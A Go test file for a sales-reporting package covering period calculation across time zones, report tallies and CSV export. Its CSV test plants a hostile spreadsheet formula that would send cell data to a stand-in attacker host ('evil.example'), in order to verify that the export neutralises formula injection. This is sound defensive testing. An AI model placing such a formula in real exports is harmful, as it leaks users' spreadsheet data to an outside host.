package salesbot_test

import (
	"bytes"
	"encoding/csv"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"salesbot"
)

func TestPeriodFor(t *testing.T) {
	shanghai, newYork := mustLoc(t, "Asia/Shanghai"), mustLoc(t, "America/New_York")
	cases := []struct {
		name, kind string
		now        time.Time
		loc        *time.Location
		from       time.Time
		end        time.Time // for a last period: the instant it ends, excluded; zero: it runs to now
	}{
		{"monday morning: the week so far is that morning", "week",
			time.Date(2026, 11, 23, 10, 0, 0, 0, shanghai), shanghai, time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai), time.Time{}},
		{"friday: the week from monday", "Week",
			time.Date(2026, 11, 27, 17, 30, 0, 0, shanghai), shanghai, time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai), time.Time{}},
		{"sunday night is still the same week", " week ",
			time.Date(2026, 11, 29, 23, 59, 0, 0, shanghai), shanghai, time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai), time.Time{}},
		{"the reader's monday while it is still sunday in UTC", "week",
			time.Date(2026, 11, 29, 20, 0, 0, 0, time.UTC), shanghai, time.Date(2026, 11, 30, 0, 0, 0, 0, shanghai), time.Time{}},
		{"a week across the start of daylight saving time", "week",
			time.Date(2026, 3, 11, 12, 0, 0, 0, newYork), newYork, time.Date(2026, 3, 9, 0, 0, 0, 0, newYork), time.Time{}},
		{"a week that began last month and last year", "week",
			time.Date(2027, 1, 1, 9, 0, 0, 0, shanghai), shanghai, time.Date(2026, 12, 28, 0, 0, 0, 0, shanghai), time.Time{}},
		{"the month so far", "month",
			time.Date(2026, 11, 23, 10, 0, 0, 0, shanghai), shanghai, time.Date(2026, 11, 1, 0, 0, 0, 0, shanghai), time.Time{}},
		{"the first of the month", "MONTH",
			time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai), shanghai, time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai), time.Time{}},
		{"the reader's new month while UTC is still in the old one", "month",
			time.Date(2026, 11, 30, 17, 0, 0, 0, time.UTC), shanghai, time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai), time.Time{}},
		{"no location is UTC", "month",
			time.Date(2026, 2, 14, 8, 0, 0, 0, time.UTC), nil, time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC), time.Time{}},

		{"monday morning: last week is the whole of it", "last-week",
			time.Date(2026, 11, 23, 10, 0, 0, 0, shanghai), shanghai, time.Date(2026, 11, 16, 0, 0, 0, 0, shanghai), time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai)},
		{"monday at 00:00 sharp", "lastweek",
			time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai), shanghai, time.Date(2026, 11, 16, 0, 0, 0, 0, shanghai), time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai)},
		{"sunday night: last week is the one before", "上周",
			time.Date(2026, 11, 29, 23, 59, 0, 0, shanghai), shanghai, time.Date(2026, 11, 16, 0, 0, 0, 0, shanghai), time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai)},
		{"last week in the reader's calendar while it is still sunday in UTC", "LAST_WEEK",
			time.Date(2026, 11, 29, 20, 0, 0, 0, time.UTC), shanghai, time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai), time.Date(2026, 11, 30, 0, 0, 0, 0, shanghai)},
		{"last week had the start of daylight saving time: 167 hours", "last-week",
			time.Date(2026, 3, 11, 12, 0, 0, 0, newYork), newYork, time.Date(2026, 3, 2, 0, 0, 0, 0, newYork), time.Date(2026, 3, 9, 0, 0, 0, 0, newYork)},
		{"last week had the end of daylight saving time: 169 hours", "last-week",
			time.Date(2026, 11, 2, 8, 0, 0, 0, newYork), newYork, time.Date(2026, 10, 26, 0, 0, 0, 0, newYork), time.Date(2026, 11, 2, 0, 0, 0, 0, newYork)},
		{"last week across the new year", "last-week",
			time.Date(2027, 1, 4, 9, 0, 0, 0, shanghai), shanghai, time.Date(2026, 12, 28, 0, 0, 0, 0, shanghai), time.Date(2027, 1, 4, 0, 0, 0, 0, shanghai)},
		{"new year's day: last week is still in the old year", "last-week",
			time.Date(2027, 1, 1, 9, 0, 0, 0, shanghai), shanghai, time.Date(2026, 12, 21, 0, 0, 0, 0, shanghai), time.Date(2026, 12, 28, 0, 0, 0, 0, shanghai)},

		{"last month", "last-month",
			time.Date(2026, 11, 23, 10, 0, 0, 0, shanghai), shanghai, time.Date(2026, 10, 1, 0, 0, 0, 0, shanghai), time.Date(2026, 11, 1, 0, 0, 0, 0, shanghai)},
		{"last month from the first at 00:00", "lastmonth",
			time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai), shanghai, time.Date(2026, 11, 1, 0, 0, 0, 0, shanghai), time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai)},
		{"last month in the reader's calendar while UTC is still in the old one", "上月",
			time.Date(2026, 11, 30, 17, 0, 0, 0, time.UTC), shanghai, time.Date(2026, 11, 1, 0, 0, 0, 0, shanghai), time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai)},
		{"last month across the new year", "Last-Month",
			time.Date(2027, 1, 15, 9, 0, 0, 0, shanghai), shanghai, time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai), time.Date(2027, 1, 1, 0, 0, 0, 0, shanghai)},
		{"a leap february", "last-month",
			time.Date(2028, 3, 31, 23, 0, 0, 0, time.UTC), nil, time.Date(2028, 2, 1, 0, 0, 0, 0, time.UTC), time.Date(2028, 3, 1, 0, 0, 0, 0, time.UTC)},
		{"last month had the start of daylight saving time", "last-month",
			time.Date(2026, 4, 10, 12, 0, 0, 0, newYork), newYork, time.Date(2026, 3, 1, 0, 0, 0, 0, newYork), time.Date(2026, 4, 1, 0, 0, 0, 0, newYork)},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p, err := salesbot.PeriodFor(c.kind, c.now, c.loc)
			if err != nil {
				t.Fatal(err)
			}
			to := c.now
			if !c.end.IsZero() {
				to = c.end.Add(-time.Nanosecond) // the last instant before the end
			}
			if !p.From.Equal(c.from) || !p.To.Equal(to) {
				t.Errorf("period %v – %v, want %v – %v", p.From, p.To, c.from, to)
			}
			if want := c.loc; want != nil && p.From.Location() != want {
				t.Errorf("from is in %v, want the reader's %v", p.From.Location(), want)
			}
			if !p.Contains(p.From) || !p.Contains(p.To) || p.Contains(p.From.Add(-time.Nanosecond)) || p.Contains(p.To.Add(time.Nanosecond)) {
				t.Errorf("period %v does not contain exactly its ends", p)
			}
			if !c.end.IsZero() && p.Contains(c.end) {
				t.Errorf("period %v contains its end %v, the next period's first instant", p, c.end)
			}
		})
	}
	// Wall-clock length across a change of daylight saving time.
	if p, _ := salesbot.PeriodFor("last-week", time.Date(2026, 3, 11, 12, 0, 0, 0, newYork), newYork); p.To.Sub(p.From)+time.Nanosecond != 167*time.Hour {
		t.Errorf("the week of the spring change lasts %v, want 167h", p.To.Sub(p.From)+time.Nanosecond)
	}
	// Successive last periods meet: last week ends where this week begins.
	now := time.Date(2026, 11, 25, 15, 0, 0, 0, shanghai)
	last, _ := salesbot.PeriodFor("last-week", now, shanghai)
	this, _ := salesbot.PeriodFor("week", now, shanghai)
	if !last.To.Add(time.Nanosecond).Equal(this.From) {
		t.Errorf("last week ends %v, this week begins %v", last.To, this.From)
	}
	for _, kind := range []string{"year", "", "weeks", "7d", "last", "last-year", "next-week", "上上周"} {
		_, err := salesbot.PeriodFor(kind, time.Now(), time.UTC)
		wantCode(t, err, salesbot.EINVALID)
		wantMessage(t, err, "week, month, last-week or last-month")
	}
}

func TestParsePeriodKind(t *testing.T) {
	for in, want := range map[string]string{
		"week": salesbot.PeriodWeek, "WEEK": salesbot.PeriodWeek, " month ": salesbot.PeriodMonth,
		"last-week": salesbot.PeriodLastWeek, "lastweek": salesbot.PeriodLastWeek, "last_week": salesbot.PeriodLastWeek, "LastWeek": salesbot.PeriodLastWeek, "上周": salesbot.PeriodLastWeek,
		"last-month": salesbot.PeriodLastMonth, "lastmonth": salesbot.PeriodLastMonth, "LAST_MONTH": salesbot.PeriodLastMonth, "上月": salesbot.PeriodLastMonth,
	} {
		if got, ok := salesbot.ParsePeriodKind(in); !ok || got != want {
			t.Errorf("ParsePeriodKind(%q) = %q, %v; want %q", in, got, ok, want)
		}
	}
	for _, in := range []string{"", "weeks", "last", "last week", "本周"} {
		if got, ok := salesbot.ParsePeriodKind(in); ok {
			t.Errorf("ParsePeriodKind(%q) = %q; want no period", in, got)
		}
	}
}

// TestReportOfAPastPeriod: a report of last week counts only last week, and
// works out a touch's grade with the grade changes made since.
func TestReportOfAPastPeriod(t *testing.T) {
	now := time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC) // a Wednesday
	p, err := salesbot.PeriodFor("last-week", now, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	tue := p.From.Add(34 * time.Hour)
	leads := []*salesbot.Lead{
		// Graded C last week, regraded A this week: last week's touch was
		// maintenance.
		{ID: "l1", Company: "l1", Owner: "U1", CreatedBy: "U1", Grade: salesbot.GradeA, Stage: salesbot.StageDemo, CreatedAt: p.From.AddDate(0, -1, 0)},
		{ID: "l2", Company: "l2", Owner: "U1", CreatedBy: "U1", Grade: salesbot.GradeB, Stage: salesbot.StageLead, CreatedAt: p.To},                      // last week's last instant
		{ID: "l3", Company: "l3", Owner: "U1", CreatedBy: "U1", Grade: salesbot.GradeB, Stage: salesbot.StageLead, CreatedAt: p.To.Add(time.Nanosecond)}, // this week's first
	}
	changes := []salesbot.Change{
		{LeadID: "l1", Company: "l1", Kind: salesbot.ChangeVisit, By: "U1", At: tue, To: "2026-11-17"},
		{LeadID: "l1", Company: "l1", Kind: salesbot.ChangeGrade, By: "U1", At: now.Add(-time.Hour), From: "C", To: "A"},
		{LeadID: "l1", Company: "l1", Kind: salesbot.ChangeVisit, By: "U1", At: now.Add(-time.Minute), To: "2026-11-25"},
	}
	r := salesbot.BuildReport(salesbot.ReportInput{Leads: leads, Changes: changes}, p)
	if len(r.NewLeads) != 1 || r.NewLeads[0].LeadID != "l2" {
		t.Errorf("new leads %+v, want l2 alone", r.NewLeads)
	}
	if len(r.GradeMoves) != 0 {
		t.Errorf("grade moves %+v, want none: the regrade was this week", r.GradeMoves)
	}
	if len(r.Touches) != 1 || r.Touches[0] != (salesbot.RepTouches{Rep: "U1", C: 1}) {
		t.Errorf("touches %+v, want one touch on a C lead (the lead was C then)", r.Touches)
	}
}

func TestRepTouchesPercent(t *testing.T) {
	cases := []struct {
		touches salesbot.RepTouches
		want    [5]int // A, B, C, D, new
	}{
		{salesbot.RepTouches{}, [5]int{0, 0, 0, 0, 0}},
		{salesbot.RepTouches{A: 1, B: 1, New: 1}, [5]int{34, 33, 0, 0, 33}},
		{salesbot.RepTouches{A: 1, B: 1, C: 1, D: 1, New: 1}, [5]int{20, 20, 20, 20, 20}},
		// 100/6 = 16 rest 4 each for A, B, C, D; 200/6 = 33 rest 2: 97,
		// and the three points left go to the first three rests of 4.
		{salesbot.RepTouches{A: 1, B: 1, C: 1, D: 1, New: 2}, [5]int{17, 17, 17, 16, 33}},
		{salesbot.RepTouches{B: 2, D: 1}, [5]int{0, 67, 0, 33, 0}},
		{salesbot.RepTouches{A: 1, C: 2, New: 4}, [5]int{14, 0, 29, 0, 57}},
		{salesbot.RepTouches{C: 5}, [5]int{0, 0, 100, 0, 0}},
		// 3/7 = 42.86, 1/7 = 14.29: 42+42+14+0+0 = 98, the two .86s get
		// the points.
		{salesbot.RepTouches{A: 3, B: 3, D: 1}, [5]int{43, 43, 0, 14, 0}},
		// 1/3 each of B, C, D: 33+33+33, B (first) gets the last point.
		{salesbot.RepTouches{B: 1, C: 1, D: 1}, [5]int{0, 34, 33, 33, 0}},
	}
	for _, c := range cases {
		got := c.touches.Percent()
		if got != c.want {
			t.Errorf("%+v: %v%%, want %v%%", c.touches, got, c.want)
		}
		sum := 0
		for _, n := range got {
			sum += n
		}
		if c.touches.Total() > 0 && sum != 100 {
			t.Errorf("%+v: percentages add up to %d", c.touches, sum)
		}
	}
}

// reportFixture is a team's week: the period is Monday 00:00 to Friday noon.
func reportFixture() ([]*salesbot.Lead, []salesbot.Change, salesbot.Period) {
	p := salesbot.Period{From: time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC), To: time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)}
	before := p.From.AddDate(0, -2, 0)
	mon, tue, wed, thu := p.From.Add(10*time.Hour), p.From.Add(34*time.Hour), p.From.Add(58*time.Hour), p.From.Add(82*time.Hour)
	lead := func(id, owner string, g salesbot.Grade, st salesbot.Stage, created time.Time) *salesbot.Lead {
		return &salesbot.Lead{ID: id, Company: id, Owner: owner, CreatedBy: owner, Grade: g, Stage: st, CreatedAt: created}
	}
	leads := []*salesbot.Lead{
		lead("old-a", "U1", salesbot.GradeA, salesbot.StageDemo, before),
		lead("old-c", "U1", salesbot.GradeA, salesbot.StageDiscovery, before), // C until Wednesday
		lead("明达机械有限公司", "U2", salesbot.GradeB, salesbot.StageLead, tue),
		lead("won", "U2", salesbot.GradeA, salesbot.StageWon, before),
		lead("lost", "U1", salesbot.GradeC, salesbot.StageLost, before),
		lead("idle", "U3", salesbot.GradeD, salesbot.StageLead, before),
		lead("fresh", "U1", salesbot.GradeC, salesbot.StageLead, mon),
		lead("at-the-start", "U1", salesbot.GradeD, salesbot.StageLead, p.From), // registered at 00:00 sharp
		lead("too-late", "U1", salesbot.GradeD, salesbot.StageLead, p.To.Add(time.Second)),
	}
	leads[2].Owner = "U1" // registered by U2, assigned to U1 since
	leads = append(leads, lead("old-b", "U3", salesbot.GradeB, salesbot.StageQuote, before))
	// The deals: valued and dated (summed), omitted (counted, not summed),
	// dated without a value, valued without a date, and closed.
	deal := func(l *salesbot.Lead, v salesbot.Amount, closeBy salesbot.Date, c salesbot.Category) {
		l.Value, l.CloseBy, l.Category = v, closeBy, c
	}
	deal(leads[0], salesbot.Amount{Minor: 180_000_000, Currency: "CNY"}, day(2026, 12, 31), salesbot.CategoryCommit) // old-a
	deal(leads[9], salesbot.Amount{Minor: 40_000_050, Currency: "USD"}, day(2027, 3, 31), salesbot.CategoryBest)     // old-b
	deal(leads[6], salesbot.Amount{Minor: 12_000_050, Currency: "CNY"}, day(2027, 6, 30), "")                        // fresh: pipeline
	deal(leads[2], salesbot.Amount{Minor: 180_000_000, Currency: "CNY"}, day(2027, 1, 15), salesbot.CategoryOmit)    // 明达
	deal(leads[5], salesbot.Amount{}, day(2027, 2, 28), "")                                                          // idle: no value
	deal(leads[1], salesbot.Amount{Minor: 50_000_000, Currency: "CNY"}, salesbot.Date{}, "")                         // old-c: no date
	deal(leads[3], salesbot.Amount{Minor: 99_900, Currency: "CNY"}, day(2026, 11, 26), "")                           // won
	visit := func(id, by string, at time.Time, date string) salesbot.Change {
		return salesbot.Change{LeadID: id, Company: id, Kind: salesbot.ChangeVisit, By: by, At: at, To: date}
	}
	changes := []salesbot.Change{
		{LeadID: "old-c", Company: "old-c", Kind: salesbot.ChangeGrade, By: "U1", At: before.Add(time.Hour), From: "D", To: "C"}, // before the period
		visit("old-a", "U1", mon, "2026-11-23"),
		visit("old-c", "U1", tue, "2026-11-24"), // still C: maintenance
		{LeadID: "old-c", Company: "old-c", Kind: salesbot.ChangeGrade, By: "U1", At: wed, From: "C", To: "A", Reason: "selection starts"},
		visit("old-c", "U1", thu, "2026-11-26"), // A now
		{LeadID: "明达机械有限公司", Company: "明达机械有限公司", Kind: salesbot.ChangeCreated, By: "U2", At: tue, To: "B"},
		visit("明达机械有限公司", "U2", wed, "2026-11-25"),
		visit("明达机械有限公司", "U2", thu, "2026-11-20"), // logged late, dated before registration
		visit("fresh", "U1", mon, "2026-11-23"),
		{LeadID: "won", Company: "won", Kind: salesbot.ChangeGrade, By: "U9", At: mon, From: "A", To: "B"},
		{LeadID: "won", Company: "won", Kind: salesbot.ChangeWon, By: "U2", At: thu, From: "negotiation", To: "won"},
		{LeadID: "lost", Company: "lost", Kind: salesbot.ChangeLost, By: "U1", At: wed, From: "demo", To: "lost", Reason: "budget frozen"},
		visit("gone", "U4", tue, "2026-11-24"), // a lead the report cannot read
		visit("old-b", "U3", tue, "2026-11-24"),
		visit("idle", "U3", wed, "2026-11-25"),
		visit("old-b", "U3", thu, "2026-11-26"),
		visit("old-a", "U1", p.To.Add(time.Minute), "2026-11-27"),                                       // after the period
		visit("old-a", "U1", p.From.Add(-time.Nanosecond), "2026-11-22"),                                // before it
		{LeadID: "old-a", Kind: salesbot.ChangeStage, By: "U1", At: tue, From: "discovery", To: "demo"}, // not reported
	}
	// The store gives changes oldest first; BuildReport must not rely on it.
	slices.Reverse(changes)
	return leads, changes, p
}

func TestBuildReport(t *testing.T) {
	leads, changes, p := reportFixture()
	r := salesbot.BuildReport(salesbot.ReportInput{Leads: leads, Changes: changes}, p)

	var names []string
	for _, l := range r.NewLeads {
		names = append(names, l.Company)
	}
	if want := []string{"at-the-start", "fresh", "明达机械有限公司"}; !slices.Equal(names, want) {
		t.Fatalf("new leads %q, want %q", names, want)
	}
	md := r.NewLeads[2]
	if md.RegisteredBy != "U2" || md.Owner != "U1" || md.Grade != salesbot.GradeB || md.Stage != salesbot.StageLead ||
		md.FirstTouch != day(2026, 11, 20) || !md.Registered.Equal(p.From.Add(34*time.Hour)) {
		t.Errorf("明达 line %+v", md)
	}
	if r.NewLeads[0].FirstTouch != (salesbot.Date{}) {
		t.Errorf("an untouched lead has first touch %v", r.NewLeads[0].FirstTouch)
	}

	if len(r.GradeMoves) != 2 || r.GradeMoves[0].Company != "won" || r.GradeMoves[0].Up ||
		r.GradeMoves[1].Company != "old-c" || !r.GradeMoves[1].Up || r.GradeMoves[1].Reason != "selection starts" || r.Upgrades() != 1 {
		t.Errorf("grade moves %+v", r.GradeMoves)
	}
	if len(r.Won) != 1 || r.Won[0].Company != "won" || r.Won[0].By != "U2" {
		t.Errorf("won %+v", r.Won)
	}
	if len(r.Lost) != 1 || r.Lost[0].Reason != "budget frozen" {
		t.Errorf("lost %+v", r.Lost)
	}

	// Open now: old-a, old-b, old-c, 明达, idle, fresh, at-the-start, too-late.
	if r.Open != 8 || r.Pipeline[salesbot.GradeA][salesbot.StageDemo] != 1 || r.Pipeline[salesbot.GradeA][salesbot.StageDiscovery] != 1 ||
		r.Pipeline[salesbot.GradeD][salesbot.StageLead] != 3 || r.Pipeline[salesbot.GradeB][salesbot.StageLead] != 1 ||
		r.Pipeline[salesbot.GradeB][salesbot.StageQuote] != 1 || len(r.Pipeline[salesbot.GradeC]) != 1 {
		t.Errorf("pipeline %v, open %d", r.Pipeline, r.Open)
	}

	// The split of seed 000's table, B, C and D apart.
	want := []salesbot.RepTouches{
		{Rep: "U1", A: 2, C: 1, New: 1}, // old-a (A), old-c (C on Tuesday, A on Thursday), fresh (new)
		{Rep: "U2", New: 2},             // both on the lead registered this week
		{Rep: "U3", B: 2, D: 1},         // old-b twice, idle once
		// U4 touched only a lead the report cannot read: no grade, no row.
	}
	if !slices.Equal(r.Touches, want) {
		t.Errorf("touches %+v\nwant    %+v", r.Touches, want)
	}
	if r.Visits() != 9 {
		t.Errorf("visits %d, want 9", r.Visits())
	}

	// The deal columns of the new leads: 明达 is omitted, at-the-start has
	// no deal yet.
	if md.Value != (salesbot.Amount{Minor: 180_000_000, Currency: "CNY"}) || md.CloseBy != day(2027, 1, 15) ||
		md.Probability != 5 || md.Category != salesbot.CategoryOmit {
		t.Errorf("明达's deal %+v", md)
	}
	if at := r.NewLeads[0]; !at.Value.IsZero() || !at.CloseBy.IsZero() || at.Probability != 5 || at.Category != salesbot.CategoryPipeline {
		t.Errorf("at-the-start's deal %+v", at)
	}
	// The open value by stage, by hand: Demo ¥1,800,000 (old-a, commit),
	// Quote $400,000.50 (old-b, best), Lead ¥120,000.50 (fresh, pipeline);
	// 明达 (omitted), idle (no value), old-c (no date) and the won deal are
	// not summed. Dated: old-a, old-b, fresh, 明达, idle.
	wantValue := map[salesbot.Stage]salesbot.Money{
		salesbot.StageDemo:  {"CNY": 180_000_000},
		salesbot.StageQuote: {"USD": 40_000_050},
		salesbot.StageLead:  {"CNY": 12_000_050},
	}
	if !maps.EqualFunc(r.Value.Stages, wantValue, maps.Equal) || r.Value.Dated != 5 || r.Value.NoValue != 1 {
		t.Errorf("open value %+v, want %v, 5 dated, 1 without a value", r.Value, wantValue)
	}
	if total := r.Value.Total(); !maps.Equal(total, salesbot.Money{"CNY": 192_000_050, "USD": 40_000_050}) {
		t.Errorf("open value in all %v", total)
	}

	// From the read models, the tally is the team's, whatever Leads hold.
	tally := salesbot.NewTally()
	tally.Count(salesbot.Deal{Stage: salesbot.StageNegotiation, Value: salesbot.Amount{Minor: 7, Currency: "EUR"}}, nil)
	tally.Count(salesbot.Deal{Stage: salesbot.StageNegotiation}, nil)
	fromModels := salesbot.BuildReport(salesbot.ReportInput{Leads: leads, Changes: changes, Deals: &tally}, p)
	if want := map[salesbot.Stage]salesbot.Money{salesbot.StageNegotiation: {"EUR": 7}}; !maps.EqualFunc(fromModels.Value.Stages, want, maps.Equal) ||
		fromModels.Value.Dated != 2 || fromModels.Value.NoValue != 1 {
		t.Errorf("open value from the read models %+v, want %v, 2 dated, 1 without a value", fromModels.Value, want)
	}

	empty := salesbot.BuildReport(salesbot.ReportInput{Leads: nil, Changes: nil}, p)
	if len(empty.NewLeads)+len(empty.GradeMoves)+len(empty.Won)+len(empty.Lost)+len(empty.Touches)+empty.Open != 0 {
		t.Errorf("empty report %+v", empty)
	}
}

// readCSV parses a report's CSV after its byte-order mark, as sections
// by title: each a header and rows.
func readCSV(t *testing.T, b []byte) map[string][][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 byte-order mark: % x", b[:min(len(b), 8)])
	}
	body := b[3:]
	if bytes.Contains(bytes.ReplaceAll(body, []byte("\r\n"), nil), []byte("\n")) {
		t.Errorf("a line ends in a bare LF")
	}
	sections := map[string][][]string{}
	for i, part := range strings.Split(string(body), "\r\n\r\n") {
		rd := csv.NewReader(strings.NewReader(part))
		rd.FieldsPerRecord = -1
		records, err := rd.ReadAll()
		if err != nil {
			t.Fatalf("section %d does not parse: %v\n%s", i, err, part)
		}
		if len(records) < 2 || len(records[0]) != 1 {
			t.Fatalf("section %d has no title and header: %q", i, records)
		}
		sections[records[0][0]] = records[1:]
	}
	return sections
}

func TestReportCSV(t *testing.T) {
	shanghai := mustLoc(t, "Asia/Shanghai")
	leads, changes, p := reportFixture()
	p.From, p.To = p.From.In(shanghai), p.To.In(shanghai)
	hostile := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	leads = append(leads,
		&salesbot.Lead{ID: "h", Company: hostile, Owner: "U2", CreatedBy: "U2", Grade: salesbot.GradeC, Stage: salesbot.StageLead, CreatedAt: p.From.Add(time.Hour)},
		&salesbot.Lead{ID: "p", Company: "+86 Trading", Owner: "U2", CreatedBy: "U2", Grade: salesbot.GradeC, Stage: salesbot.StageLead, CreatedAt: p.From.Add(time.Hour)})
	changes = append(changes, salesbot.Change{LeadID: "h", Company: hostile, Kind: salesbot.ChangeLost, By: "U2", At: p.From.Add(2 * time.Hour), Reason: "-1 support, @ceo said no"})
	r := salesbot.BuildReport(salesbot.ReportInput{Leads: leads, Changes: changes, Currency: "CNY"}, p)
	r.Names = map[string]string{"U1": "Wang Li 王丽", "U2": "@lee"}

	s := readCSV(t, r.CSV())
	titles := []string{"Sales report", "New leads", "Grade changes", "Won", "Lost", "Pipeline (open leads now)", "Pipeline value (open deals)", "Touches by rep", "By source"}
	if len(s) != len(titles) {
		t.Fatalf("sections %v", s)
	}
	cases := []struct {
		section string
		row     int // 0 is the header
		want    []string
	}{
		{"Sales report", 0, []string{"From", "To", "Time zone"}},
		{"Sales report", 1, []string{"2026-11-23 08:00", "2026-11-27 20:00", "Asia/Shanghai"}},
		{"New leads", 0, []string{"Company", "Registered by", "Owner", "Grade", "Stage", "Registered", "First touch",
			"Value", "Currency", "Close date", "Probability (%)", "Forecast category"}},
		{"New leads", 1, []string{"at-the-start", "Wang Li 王丽", "Wang Li 王丽", "D", "Lead", "2026-11-23 08:00", "", "", "", "", "5", "Pipeline"}},
		{"New leads", 2, []string{"'+86 Trading", "'@lee", "'@lee", "C", "Lead", "2026-11-23 09:00", "", "", "", "", "5", "Pipeline"}},
		{"New leads", 3, []string{"'" + hostile, "'@lee", "'@lee", "C", "Lead", "2026-11-23 09:00", "", "", "", "", "5", "Pipeline"}},
		{"New leads", 4, []string{"fresh", "Wang Li 王丽", "Wang Li 王丽", "C", "Lead", "2026-11-23 18:00", "2026-11-23", "120000.50", "CNY", "2027-06-30", "5", "Pipeline"}},
		{"New leads", 5, []string{"明达机械有限公司", "'@lee", "Wang Li 王丽", "B", "Lead", "2026-11-24 18:00", "2026-11-20", "1800000.00", "CNY", "2027-01-15", "5", "Omitted"}},
		{"Grade changes", 0, []string{"Company", "From", "To", "Direction", "By", "When", "Reason"}},
		{"Grade changes", 1, []string{"won", "A", "B", "down", "U9", "2026-11-23 18:00", ""}},
		{"Grade changes", 2, []string{"old-c", "C", "A", "up", "Wang Li 王丽", "2026-11-25 18:00", "selection starts"}},
		{"Won", 1, []string{"won", "'@lee", "2026-11-26 18:00"}},
		{"Lost", 0, []string{"Company", "Closed by", "When", "Reason"}},
		{"Lost", 1, []string{"'" + hostile, "'@lee", "2026-11-23 10:00", "'-1 support, @ceo said no"}},
		{"Lost", 2, []string{"lost", "Wang Li 王丽", "2026-11-25 18:00", "budget frozen"}},
		{"Pipeline (open leads now)", 0, []string{"Grade", "Lead", "First visit", "Discovery", "Demo", "Quote", "Objections", "Negotiation", "Total"}},
		{"Pipeline (open leads now)", 1, []string{"A", "0", "0", "1", "1", "0", "0", "0", "2"}},
		{"Pipeline (open leads now)", 2, []string{"B", "1", "0", "0", "0", "1", "0", "0", "2"}},
		{"Pipeline (open leads now)", 3, []string{"C", "3", "0", "0", "0", "0", "0", "0", "3"}},
		{"Pipeline (open leads now)", 5, []string{"Total", "7", "0", "1", "1", "1", "0", "0", "10"}},
		// By hand: fresh ¥120,000.50 at Lead (the hostile and +86 leads
		// have no deal), old-a ¥1,800,000 at Demo, old-b $400,000.50 at
		// Quote; the team's currency first. Open 10, dated 5: 5 undated
		// (old-c, at-the-start, too-late, the two hostile ones).
		{"Pipeline value (open deals)", 0, []string{"Stage", "Currency", "Open value"}},
		{"Pipeline value (open deals)", 1, []string{"Lead", "CNY", "120000.50"}},
		{"Pipeline value (open deals)", 2, []string{"Demo", "CNY", "1800000.00"}},
		{"Pipeline value (open deals)", 3, []string{"Quote", "USD", "400000.50"}},
		{"Pipeline value (open deals)", 4, []string{"Total", "CNY", "1920000.50"}},
		{"Pipeline value (open deals)", 5, []string{"Total", "USD", "400000.50"}},
		{"Pipeline value (open deals)", 6, []string{"Not summed: open leads with no close date", "", "5"}},
		{"Pipeline value (open deals)", 7, []string{"Not summed: open deals with a close date and no value", "", "1"}},
		{"Touches by rep", 0, []string{"Rep", "A leads", "B leads", "C leads", "D leads", "New leads", "Total",
			"A leads %", "B leads %", "C leads %", "D leads %", "New leads %"}},
		// U1: old-a and old-c on Thursday (A), old-c on Tuesday (C), fresh
		// (new): 2, 0, 1, 0, 1 of 4.
		{"Touches by rep", 1, []string{"Wang Li 王丽", "2", "0", "1", "0", "1", "4", "50", "0", "25", "0", "25"}},
		{"Touches by rep", 2, []string{"'@lee", "0", "0", "0", "0", "2", "2", "0", "0", "0", "0", "100"}},
		// U3: old-b twice (B), idle once (D): 200/3 = 66 rest 2, 100/3 =
		// 33 rest 1; the point left goes to B.
		{"Touches by rep", 3, []string{"U3", "0", "2", "0", "1", "0", "3", "0", "67", "0", "33", "0"}},
	}
	for _, c := range cases {
		rows := s[c.section]
		if c.row >= len(rows) {
			t.Errorf("%s: no row %d in %q", c.section, c.row, rows)
			continue
		}
		if !slices.Equal(rows[c.row], c.want) {
			t.Errorf("%s row %d:\n got %q\nwant %q", c.section, c.row, rows[c.row], c.want)
		}
	}
	// No cell of any section starts a formula.
	for title, rows := range s {
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would be read as a formula", title, cell)
				}
			}
		}
	}

	// An empty report still has every table, with its header.
	empty := readCSV(t, salesbot.BuildReport(salesbot.ReportInput{Leads: nil, Changes: nil}, p).CSV())
	if len(empty) != len(titles) || len(empty["New leads"]) != 1 || len(empty["Pipeline (open leads now)"]) != 6 ||
		len(empty["Pipeline value (open deals)"]) != 4 || len(empty["Touches by rep"]) != 1 {
		t.Errorf("empty report CSV %q", empty)
	}
}
